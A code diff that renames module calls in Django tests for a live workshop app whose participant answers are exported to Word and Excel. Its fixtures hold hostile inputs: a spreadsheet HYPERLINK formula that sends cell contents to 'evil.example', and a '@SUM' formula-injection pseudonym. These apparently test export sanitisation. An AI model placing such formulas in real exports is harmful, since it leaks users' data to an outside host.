@@ -14,10 +14,10 @@ from django.urls import reverse
 from docx import Document
 from openpyxl import load_workbook
 
-from quizzes.answers import Submission, record_answers
-from quizzes.models import ActivityRun, Response
+from live import sessions
+from live.answers import Submission, record_answers
+from live.models import ActivityRun, Response
 from tests.conftest import step_titled
-from workshops import live
 from workshops.duplication import duplicate_step
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez ici")'
@@ -44,12 +44,12 @@ def answer(participant, step, data: dict):
 def played(live_session):
     """A session where the tour de table, the vote and the idea board were played."""
     session = live_session
-    alex = live.join(session=session, pseudonym="Alex", structure="CCAS de Nanterre")
-    sam = live.join(session=session, pseudonym="@SUM(1+1)", structure="+33 1 23 45 67 89")
-    lou = live.join(session=session)  # no pseudonym: "Participant·e 3"
+    alex = sessions.join(session=session, pseudonym="Alex", structure="CCAS de Nanterre")
+    sam = sessions.join(session=session, pseudonym="@SUM(1+1)", structure="+33 1 23 45 67 89")
+    lou = sessions.join(session=session)  # no pseudonym: "Participant·e 3"
 
     icebreaker = step_titled(session, "Tour de table & brise-glace")
-    live.go_to_step(session=session, step=icebreaker)
+    sessions.go_to_step(session=session, step=icebreaker)
     card = {"fonctions": "Médiatrice", "structure": "CCAS de Nanterre", "lien": "Je forme"}
     answer(alex, icebreaker, {**card, "directory": True})
     answer(sam, icebreaker, {"fonctions": HYPERLINK, "structure": "", "lien": SCRIPT})
@@ -61,23 +61,23 @@ def played(live_session):
 
     vote = step_titled(session, "Vote")
     duplicate_step(step=vote)  # a copy, never played in this session
-    live.go_to_step(session=session, step=vote)
+    sessions.go_to_step(session=session, step=vote)
     answer(alex, vote, {"choices": [0]})
     answer(sam, vote, {"choices": [0]})
     answer(lou, vote, {"choices": [1]})
 
     board = step_titled(session, "Brainstorming sur les enjeux à l'échelle de l'écosystème")
-    live.go_to_step(session=session, step=board)
+    sessions.go_to_step(session=session, step=board)
     fonds = answer(alex, board, {"column": "economique", "text": "Un fonds local"})
     bus = answer(sam, board, {"column": "cohesion", "text": SCRIPT})
     evil = answer(lou, board, {"column": "sante", "text": HYPERLINK})
     run = ActivityRun.objects.get(session=session, activity=board.activity)
-    live.perform_action(session=session, run=run, action="vote", form={"votes": ["2"]})
+    sessions.perform_action(session=session, run=run, action="vote", form={"votes": ["2"]})
     answer(alex, board, {"votes": [bus.pk, fonds.pk]})
     answer(sam, board, {"votes": [bus.pk]})
     answer(lou, board, {"votes": [evil.pk]})
     run.refresh_from_db()
-    live.perform_action(session=session, run=run, action="ranking")
+    sessions.perform_action(session=session, run=run, action="ranking")
     return session
 
 
@@ -111,13 +111,13 @@ def tour_de_table(live_session):
     step = step_titled(session, "Tour de table & brise-glace")
     step.activity.config = {**step.activity.config, "order": "arrival"}
     step.activity.save()
-    live.go_to_step(session=session, step=step)
+    sessions.go_to_step(session=session, step=step)
     for pseudonym, card, consent in CARDS:
-        phone = live.join(session=session, pseudonym=pseudonym)
+        phone = sessions.join(session=session, pseudonym=pseudonym)
         answer(phone, step, {**card, "directory": consent})
     run = ActivityRun.objects.get(session=session, activity=step.activity)
     for action in ("start", "next", "next", "next"):
-        live.perform_action(session=session, run=run, action=action)
+        sessions.perform_action(session=session, run=run, action=action)
     return session
 
 
